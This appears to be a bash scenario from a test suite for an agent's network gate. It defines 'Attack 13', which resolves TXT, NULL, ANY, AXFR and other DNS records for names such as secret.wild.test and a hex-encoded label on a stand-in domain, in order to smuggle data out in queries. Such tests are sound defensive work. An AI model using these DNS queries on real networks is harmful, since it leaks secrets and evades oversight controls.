# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2034,SC2154 # what is set here is the runner's to use
# Attack 13: data in a query: types and labels of the attacker's
# The gate asks nobody when the agent asks, also where a wildcard allows the name.
#
# bare: +
# open: .
# allowlist: -
# api: -
# lockdown: -

trace=('dns udp TXT secret.wild.test' 'dns udp NULL secret.wild.test' 'dns udp HTTPS secret.wild.test'
    'dns udp ANY secret.wild.test' 'dns tcp AXFR wild.test' 'dns udp A 0123456789abcdef.wild.test')
throw()
{
    for type in TXT NULL HTTPS ANY AAAA SVCB MX SRV; do
        client resolve "$type" secret.wild.test "$resolver"
    done
    client resolve AXFR wild.test tcp "$resolver"
    client resolve A 0123456789abcdef.wild.test "$resolver"
}
